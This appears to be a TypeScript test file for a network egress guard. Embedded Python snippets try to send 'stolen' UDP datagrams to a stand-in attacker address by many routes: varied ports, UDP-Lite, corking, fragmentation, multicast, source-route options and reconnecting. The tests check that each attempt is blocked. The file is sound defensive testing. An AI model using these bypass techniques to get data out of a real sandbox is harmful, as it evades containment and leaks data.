/** B10: datagrams by every call that sends one, with and without connect. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { buildProgram } from "../../support/build-program.ts";
import { ATTACKER } from "../../support/internet/addresses.ts";
import {
  ALLOWED,
  type AttackScene,
  createAttackScene,
  findObstacle,
  toPython,
} from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const obstacle = findObstacle();
const { ipv4, ipv6 } = ATTACKER;
const MAPPED = `::ffff:${ipv4}`;

interface Aim {
  readonly way: string;
  readonly ip: string;
  readonly port: number;
}

const AIMS: readonly Aim[] = ["sendto", "sendmsg", "sendmmsg", "connect"].flatMap((way, index) =>
  [ipv4, ipv6, MAPPED].map((ip, family) => ({ way, ip, port: 4000 + index * 10 + family })),
);
const nameOf = ({ way, ip, port }: Aim): string => `${way} to ${ip} port ${port}`;

/** Every port of a row, and those that others give away: DNS over other protocols, NTP, STUN, WireGuard, QUIC. */
const PORTS = toPython(`
import socket
ports = [1, 67, 69, 123, 137, 161, 443, 500, 514, 784, 853, 1194, 1900, 3478, 4500, 5353, 8853, 51820, 65535]
refused = 0
for family, ip in ((socket.AF_INET, "${ipv4}"), (socket.AF_INET6, "${ipv6}")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    for port in ports:
        try: s.sendto(b"stolen", (ip, port))
        except PermissionError: refused += 1
print(refused, "of", len(ports) * 2)`);

const LITE = toPython(`
import socket
for family, ip in ((socket.AF_INET, "${ipv4}"), (socket.AF_INET6, "${ipv6}")):
    try: s = socket.socket(family, socket.SOCK_DGRAM, 136)
    except OSError as error: print("no socket:", error.strerror); continue
    try: s.sendto(b"stolen", (ip, 4100)); print("sent")
    except OSError as error: print(error.strerror)`);

/** Later datagrams of a flow, corked ones, ones cut up by the kernel, and a source chosen by the sender. */
const SPECIAL = toPython(`
import socket, struct
def attempt(name, deed):
    try: deed(); print(name, "sent")
    except OSError as error: print(name, error.strerror)
def repeat():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(20):
        try: s.sendto(b"stolen", ("${ipv4}", 4200)); raise SystemExit("sent")
        except PermissionError: pass
    raise PermissionError(1, "Operation not permitted")
def cork():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("${ipv4}", 4201))
    s.setsockopt(17, 1, 1); s.send(b"sto"); s.send(b"len"); s.setsockopt(17, 1, 0); s.send(b"x")
def segment():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(17, 103, 500)
    s.sendto(bytes(5000), ("${ipv4}", 4202))
def fragment():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(0, 10, 0)
    s.sendto(bytes(9000), ("${ipv4}", 4203))
def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b"stolen", ("10.244.255.255", 4204))
def multicast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"stolen", ("239.1.2.3", 4205))
def multicast6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"stolen", ("ff02::123", 4206, 0, socket.if_nametoindex("eth0")))
def linklocal():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"stolen", ("fe80::1", 4207, 0, socket.if_nametoindex("eth0")))
def device():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, 25, b"eth0")
    s.sendto(b"stolen", ("127.0.0.9", 4208))
def options():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(0, 4, bytes([137, 7, 4, *socket.inet_aton("${ipv4}"), 0]))
    s.sendto(b"stolen", ("${ALLOWED.ipv4}", 4209))
def resume():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", 4210)); s.send(b"first")
    s.connect(("${ipv4}", 4210)); s.send(b"stolen")
for name, deed in list(globals().items()):
    if type(deed) is type(attempt) and deed is not attempt: attempt(name, deed)`);

describe.skipIf(obstacle !== "")(`datagrams${obstacle}`, () => {
  let scene: AttackScene;
  let volley: Volley;
  beforeAll(async () => {
    scene = await createAttackScene();
    const send = buildProgram("send-udp");
    const aimed = AIMS.map((aim) => [nameOf(aim), `${send} ${aim.way} ${aim.ip} ${aim.port}`]);
    const attacks = { ...Object.fromEntries(aimed), ports: PORTS, lite: LITE, special: SPECIAL };
    volley = await fireAll(scene.pod, attacks, { policy: toPolicy({ allow: ["github.test"] }) });
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test("do not leave", async () => {
    expect(volley.run.escaped).toEqual([]);
    expect(await scene.internet.visits()).toEqual([]);
  });

  test.each(AIMS.map((aim) => [nameOf(aim), aim] as const))(
    "by %s are refused and told of",
    (name, { ip, port }) => {
      const { stdout, blocked } = volley.shot(name);
      const seen = ip.replace("::ffff:", "");

      expect(JSON.parse(stdout)).toMatchObject({ did: "send", ok: false, errno: 1 });
      expect(blocked).toEqual([
        { text: `udp ${seen} ${port}`, rule: "default", packetsRefused: expect.any(Number) },
      ]);
    },
  );

  test("to every kind of port are refused", () => {
    const { stdout, blocked } = volley.shot("ports");

    expect(stdout).toBe("38 of 38\n");
    expect(blocked).toHaveLength(38);
  });

  test("of UDP-Lite are refused", () => {
    const { stdout, connections } = volley.shot("lite");

    expect(stdout).toBe("Operation not permitted\nOperation not permitted\n");
    expect(
      connections.map(({ destination, verdict }) => [destination.ip, destination.port, verdict]),
    ).toEqual([
      [ipv4, 4100, "blocked"],
      [ipv6, 4100, "blocked"],
    ]);
  });

  test("again and again, in pieces, to everybody, by a device or by a route of one's own are refused", () => {
    const { stdout, blocked } = volley.shot("special");

    expect(stdout.trim().split("\n")).toHaveLength(11);
    expect(stdout).not.toContain("sent");
    expect(blocked.map(({ text }) => text)).toEqual(
      expect.arrayContaining([4200, 4201, 4202, 4203].map((port) => `udp ${ipv4} ${port}`)),
    );
    expect(blocked.find(({ text }) => text.endsWith(" 4200"))?.packetsRefused).toBe(20);
  });
});
